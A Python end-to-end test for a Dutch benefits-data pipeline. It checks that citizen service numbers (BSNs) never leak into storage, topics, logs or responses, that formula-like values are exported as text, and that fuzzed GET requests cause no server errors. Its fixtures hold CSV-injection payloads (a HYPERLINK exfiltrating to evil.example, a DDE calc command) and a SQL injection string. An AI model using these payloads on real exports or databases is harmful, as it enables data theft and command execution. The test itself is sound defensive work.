"""The attacker's privacy run through the real chain (intake → broker → caseload → reporting).

A batch mixes good events with events carrying a valid BSN, in every spelling, in each string
field the models declare (and in an extension attribute). Each of those is refused naming its
field; afterwards no table of the database, no record (key, value, headers) of any topic, no
log line and no answer holds any BSN sent, in any spelling. Coaches named like formulas come
out of the CSV and XLSX exports as text. Then hypothesis fires query strings at every GET route
of the three services: no 5xx, and no BSN echoed.
"""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import random
import re
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import asyncpg
import httpx
import orjson
import pytest
from aiokafka import AIOKafkaConsumer, TopicPartition
from conftest import ADMIN_DSN, bearer
from e2e.test_chain import ANALYST, Chain, deployment
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from security.fields import EXAMPLES, example, string_fields, with_value
from stroom_cli.pipeline import wait_until_settled
from stroom_cli.runtime import Service
from stroom_cli.serve import start_services
from stroom_platform.broker import EmbeddedBroker
from stroom_platform.logs import JsonFormatter
from stroom_simulator.bsns import BsnSource

SPELLINGS = (
    "{}",
    "{0[0]}{0[1]}{0[2]}{0[3]}.{0[4]}{0[5]}.{0[6]}{0[7]}{0[8]}",
    "{0[0]}{0[1]}{0[2]} {0[3]}{0[4]}{0[5]} {0[6]}{0[7]}{0[8]}",
    "{0[0]}{0[1]}{0[2]}-{0[3]}{0[4]}-{0[5]}{0[6]}{0[7]}{0[8]}",
)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]
ORG = "werksaam-westfriesland"


def spelled(bsn: str, n: int) -> str:
    return SPELLINGS[n % len(SPELLINGS)].format(bsn)


def any_spelling(bsns: list[str]) -> re.Pattern[str]:
    """Each BSN with or without a dot, space or dash between any two digits."""
    return re.compile("|".join("[ .\\-]?".join(bsn) for bsn in bsns))


def good_events(bsns: list[str]) -> list[dict[str, Any]]:
    """The valid examples (not the retraction: it would take an example back), and four clients
    with a benefit each and a coach named like a formula."""
    events = [
        example(path.stem.split(".v1")[0] + ".v1")
        for path in sorted(EXAMPLES.glob("stroom.*.v1.json"))
        if "retracted" not in path.name
    ]
    for n, formula in enumerate(FORMULAS):
        started = example("stroom.benefit.started.v1")
        started["id"] = f"fx-benefit-{n}"
        started["data"]["benefit_ref"] = f"UITK-FX-{n}"
        started["data"]["members"] = [{"bsn": bsns[n], "role": "applicant", "birth_date": "1980-01-01"}]
        started["data"].pop("application_ref", None)
        started.pop("subject", None)
        coach = example("stroom.client.coach_assigned.v1")
        coach["id"] = f"fx-coach-{n}"
        coach["data"] = {"client": {"bsn": bsns[n]}, "coach_ref": formula, "assigned_on": "2024-04-11"}
        events += [started, coach]
    return events


def bad_events(bsns: list[str]) -> list[tuple[dict[str, Any], str]]:
    """Each string field of each type with a BSN in it (spellings and BSNs rotating)."""
    bad = []
    for n, field in enumerate(string_fields()):
        value = f"ref {spelled(bsns[n % len(bsns)], n)}"
        raw = with_value(example(field.event_type), field.path, value)
        if field.path != ("id",):
            raw["id"] = f"bad-{n}"
        bad.append((raw, field.name))
    leaky = example("stroom.benefit.ended.v1") | {"id": "bad-extension", "caseno": spelled(bsns[0], 1)}
    bad.append((leaky, "caseno"))
    return bad


@pytest.fixture
async def chain(
    broker: EmbeddedBroker, postgres_server_url: str
) -> AsyncIterator[tuple[Chain, list[Service]]]:
    services = await deployment(broker, postgres_server_url)
    group = await start_services(services, "127.0.0.1")
    try:
        async with httpx.AsyncClient(timeout=60, headers=ANALYST) as client:
            yield Chain({e.name: e.url for e in group.endpoints}, client), services
    finally:
        await group.stop()


# The examples' case systems, each writing for its own organisation.
CASE_SYSTEMS = {
    "gws/werksaam-westfriesland": "werksaam-westfriesland",
    "civision/ijmond-werkt": "ijmond-werkt",
    "suite4sd/bar-organisatie": "bar",
}
# Reads every route, also traces and the audit log.
EVERY_READ = bearer(
    "reports:read", "reports:read:detail", "caseload:read", "ops:read", "admin", subject="fuzzer"
)


async def post_as_case_systems(
    chain: Chain, batch: list[dict[str, Any]]
) -> tuple[int, list[dict[str, Any]], str]:
    """Each event with its own case system's token (an unknown source with WerkSaam's), and the
    refusals by their index in `batch`; also the answers' text."""
    parts: dict[str, list[int]] = {}
    for index, raw in enumerate(batch):
        organisation = CASE_SYSTEMS.get(str(raw.get("source")), "werksaam-westfriesland")
        parts.setdefault(organisation, []).append(index)
    accepted, refused, texts = 0, [], []
    for organisation, indices in parts.items():
        sources = [source for source, owner in CASE_SYSTEMS.items() if owner == organisation]
        response = await chain.client.post(
            f"{chain.urls['intake']}/v1/events",
            content=orjson.dumps([batch[i] for i in indices]),
            headers={
                "content-type": "application/cloudevents-batch+json",
                **bearer("events:write", organisation=organisation, sources=sources),
            },
        )
        assert response.status_code == 202, response.text
        body = response.json()
        accepted += body["accepted"]
        refused += [error | {"index": indices[error["index"]]} for error in body["refused"]]
        texts.append(response.text)
    return accepted, refused, "\n".join(texts)


async def database_text(database_url: str) -> str:
    dsn = ADMIN_DSN.rsplit("/", 1)[0] + "/" + database_url.rsplit("/", 1)[1]
    conn = await asyncpg.connect(dsn)
    try:
        tables = [
            r["tablename"]
            for r in await conn.fetch("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
        ]
        texts = []
        for table in tables:
            rows = await conn.fetch(f'SELECT row_to_json(t)::text AS j FROM "{table}" t')
            texts += [r["j"] for r in rows]
    finally:
        await conn.close()
    assert len(tables) > 10
    return "\n".join(texts)


async def topic_text(bootstrap: str, topics: list[str]) -> tuple[str, int]:
    consumer = AIOKafkaConsumer(bootstrap_servers=bootstrap, enable_auto_commit=False)
    await consumer.start()
    texts, count = [], 0
    try:
        partitions = [
            TopicPartition(topic, p)
            for topic in topics
            for p in (consumer.partitions_for_topic(topic) or set())
        ]
        if not partitions:
            await consumer.topics()
            partitions = [
                TopicPartition(topic, p)
                for topic in topics
                for p in (consumer.partitions_for_topic(topic) or set())
            ]
        consumer.assign(partitions)
        await consumer.seek_to_beginning(*partitions)
        ends = await consumer.end_offsets(partitions)
        remaining = {tp: end for tp, end in ends.items() if end > 0}
        while remaining:
            batch = await consumer.getmany(timeout_ms=500)
            for records in batch.values():
                for record in records:
                    count += 1
                    texts.append(repr((record.key, record.value, record.headers)))
            for tp in list(remaining):
                if await consumer.position(tp) >= remaining[tp]:
                    del remaining[tp]
    finally:
        await consumer.stop()
    return "\n".join(texts), count


@pytest.mark.long
async def test_no_bsn_gets_past_intake_and_formulas_come_out_as_text(
    chain: tuple[Chain, list[Service]], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    the_chain, services = chain
    source = BsnSource(random.Random(909))
    bsns = [source.next() for _ in range(12)]
    good = good_events(bsns[:4])
    bad = bad_events(bsns[4:])
    batch = good + [raw for raw, _ in bad]
    random.Random(3).shuffle(batch)
    accepted, refusals, answered = await post_as_case_systems(the_chain, batch)
    assert accepted == len(good)
    refused: dict[int, set[str]] = {}
    for error in refusals:
        refused.setdefault(error["index"], set()).add(error["field"])
    for raw, field in bad:
        assert field in refused[batch.index(raw)], (field, refused.get(batch.index(raw)))
    # The id comes back exactly, or masked where it was the field that held the BSN.
    ids = {e["index"]: e["id"] for e in refusals}
    for raw, field in bad:
        if field != "id":
            assert ids[batch.index(raw)] == raw["id"]

    await wait_until_settled(the_chain.client, the_chain.urls)
    sent = any_spelling([*bsns, *set(re.findall(r'"bsn": "(\d{9})"', orjson.dumps(good).decode()))])
    answers = [answered]

    # Formula-looking coaches reach the caseload report and leave it as text.
    params = {"organisation": ORG, "stockDate": "2024-06-30"}
    report = f"{the_chain.urls['reporting']}/v1/reports/caseload"
    as_json = await the_chain.client.get(report, params=params)
    assert as_json.status_code == 200, as_json.text
    answers.append(as_json.text)
    coaches = {row.get("coach") for table in as_json.json()["tables"].values() for row in table["rows"]}
    assert set(FORMULAS) <= coaches
    as_csv = await the_chain.client.get(report, params=params | {"format": "csv"})
    assert as_csv.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(as_csv.text.lstrip("\ufeff")), delimiter=";") for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    as_xlsx = await the_chain.client.get(report, params=params | {"format": "xlsx"})
    assert as_xlsx.status_code == 200
    workbook = load_workbook(io.BytesIO(as_xlsx.content))
    xcells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    for formula in FORMULAS:
        planted = [cell for cell in xcells if cell.value == formula]
        assert planted, formula
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in planted)
    assert not [cell.coordinate for cell in xcells if cell.data_type == "f"]

    # No BSN anywhere: database, topics, logs, answers.
    database = await database_text(services[0].settings.database_url or "")
    assert "UITK-FX-0" in database, "the good events were stored; the search below proves something"
    assert not sent.findall(database)
    settings_ = services[0].settings
    assert settings_.kafka_bootstrap_servers is not None
    topics, records = await topic_text(
        settings_.kafka_bootstrap_servers,
        [settings_.events_topic, settings_.facts_topic, settings_.dead_letter_topic],
    )
    assert records > len(good)
    assert not sent.findall(topics)
    formatter = JsonFormatter()
    logs = "\n".join(formatter.format(record) for record in caplog.records)
    assert logs
    assert not sent.findall(logs)
    assert not sent.findall("\n".join(answers))

    await no_server_error_on_any_get_route(the_chain, sent)


INTERESTING = [
    "",
    "0000-01",
    "10000-01",
    "9999-12",
    "2024-13",
    "2024-00",
    "1899-12",
    "2024",
    "2024-Q2",
    "2024-H1",
    "0000",
    "0001-01-01",
    "9999-12-31",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-01:00",
    "2024-06-30T12:00:00",
    "2024-06-30T12:00:00+02:00",
    "GM0405",
    "GM9999",
    ORG,
    "PW",
    "benefits",
    "persons",
    "json",
    "csv",
    "xlsx",
    "K1",
    "inflow",
    "end",
    "-1",
    "99999999999999999999",
    "712350780",
    "7123.50.780",
    "%00",
    "\u0000",
    "'; DROP TABLE x; --",
]


def query_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(INTERESTING),
        st.text(max_size=40),
        st.from_regex(r"\A-?\d{1,6}(-\d{1,3}(-\d{1,3})?)?\Z"),
        st.datetimes(timezones=st.timezones()).map(lambda d: d.isoformat()),
    )


async def get_routes(chain: Chain) -> list[tuple[str, str, list[str], list[str]]]:
    routes = []
    for service, url in chain.urls.items():
        document = (await chain.client.get(f"{url}/v1/openapi.json")).json()
        for path, operations in document["paths"].items():
            operation = operations.get("get")
            if operation is None:
                continue
            parameters = operation.get("parameters", [])
            query = [p["name"] for p in parameters if p["in"] == "query"]
            in_path = [p["name"] for p in parameters if p["in"] == "path"]
            routes.append((service, path, query, in_path))
    return routes


async def no_server_error_on_any_get_route(chain: Chain, sent: re.Pattern[str]) -> None:
    routes = await get_routes(chain)
    assert len(routes) >= 20
    clients = {
        service: httpx.Client(base_url=url, timeout=60, headers=EVERY_READ)
        for service, url in chain.urls.items()
    }

    @settings(
        max_examples=300,
        database=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(st.data())
    def no_5xx(data: st.DataObject) -> None:
        service, path, query, in_path = data.draw(st.sampled_from(routes))
        for name in in_path:
            value = data.draw(
                st.one_of(st.sampled_from(["GM0405", "KM-1", "712350780"]), st.text(min_size=1))
            )
            path = path.replace("{" + name + "}", quote(value, safe=""))
        chosen = data.draw(st.lists(st.sampled_from(query), unique=True)) if query else []
        params = [(name, data.draw(query_values())) for name in chosen]
        answer = clients[service].get(path, params=params)
        assert answer.status_code < 500, (service, path, params, answer.text[:500])
        assert not sent.findall(answer.text), (service, path, params)

    try:
        await asyncio.to_thread(no_5xx)
    finally:
        for client in clients.values():
            client.close()
